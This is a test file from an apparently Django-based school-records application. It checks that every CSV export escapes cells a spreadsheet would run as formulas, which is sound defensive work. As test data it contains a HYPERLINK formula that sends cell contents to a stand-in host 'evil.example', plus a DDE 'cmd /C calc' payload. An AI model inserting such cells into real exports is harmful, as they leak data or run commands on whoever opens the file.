"""No export writes a cell a spreadsheet would run as a formula (issue 14, finding 4): one CSV writer
(apcase.exports.SafeCSVWriter) neutralises cells starting = + - @ tab or carriage return with a
single quote, as OWASP advises, and keeps numbers numbers."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from django.conf import settings
from django.contrib.contenttypes.models import ContentType
from django.urls import reverse

from apcase.exports import SafeCSVWriter, csv_cell, export_job_run
from apcase.models import ExportJob, RecordAccess
from pupils.tests.factories import PupilFactory

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_would_run_as_a_formula_is_made_text(start):
    assert csv_cell(f"{start}cmd|' /C calc'!A0") == f"'{start}cmd|' /C calc'!A0"


@pytest.mark.parametrize("value", [-2, "-2", "-12.50", "+3", 0, "Ashworth", "O'Brien", "07700 900123"])
def test_numbers_and_ordinary_text_are_left_as_they_are(value):
    assert csv_cell(value) == value


def test_every_csv_in_the_code_goes_through_the_one_writer():
    root = Path(settings.BASE_DIR)
    apps = ["apcase", "pupils", "audits", "placements", "reviews", "dashboards", "reports", "reminders", "demo"]
    offenders = [
        str(path.relative_to(root))
        for app in apps
        for path in (root / app).rglob("*.py")
        if "tests" not in path.parts and re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
    ]
    assert offenders == ["apcase/exports.py"]


def _rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_the_pupil_list_export(sendco, school):
    PupilFactory(school=school, legal_last_name=HOSTILE[:60], preferred_first_name="@SUM(1+1)")
    job = ExportJob.objects.create(user=sendco, school=school, kind="pupils")
    job = export_job_run(job_id=job.pk)
    assert job.document is not None
    cells = {cell for row in _rows(job.document.read_bytes()) for cell in row}
    assert "'" + HOSTILE[:60] in cells
    assert not any(cell.startswith(("=", "@")) for cell in cells)


def test_the_subject_access_csvs(sendco, school):
    from pupils.services import case_event_record
    from pupils.subject_access import subject_access_export

    pupil = PupilFactory(school=school, legal_last_name="-Smith+1")
    case_event_record(pupil=pupil, kind="note", summary=HOSTILE, actor=sendco)
    archive = zipfile.ZipFile(io.BytesIO(subject_access_export(pupil=pupil, actor=sendco)))
    cells = [
        cell
        for name in archive.namelist()
        if name.endswith(".csv")
        for row in _rows(archive.read(name))
        for cell in row
    ]
    assert "'-Smith+1" in cells and "'" + HOSTILE in cells
    assert not any(cell.startswith(("=", "+", "@")) or re.match(r"-\D", cell) for cell in cells)


def test_the_access_log_export(admin_client, school, sendco):
    RecordAccess.objects.create(
        user=sendco,
        school=school,
        content_type=ContentType.objects.get_for_model(school),
        object_id=school.public_id,
        path="=1+1",
    )
    response = admin_client.post(
        reverse("admin:apcase_recordaccess_changelist"),
        {
            "action": "export_access_log_csv",
            "_selected_action": list(RecordAccess.objects.values_list("pk", flat=True)),
        },
    )
    assert "'=1+1" in [cell for row in _rows(response.content) for cell in row]


def test_the_census_csv():
    from placements.models import Placement
    from reports.census import CensusRow, census_csv

    rows = _rows(census_csv([CensusRow(Placement(), ["=1+1", "-2", "Ok"], None)]))
    assert rows[1] == ["'=1+1", "-2", "Ok"]


def test_the_writer_keeps_rows_whole():
    buffer = io.StringIO()
    SafeCSVWriter(buffer).writerows([["a", "=b"], [1, None]])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [["a", "'=b"], ["1", ""]]
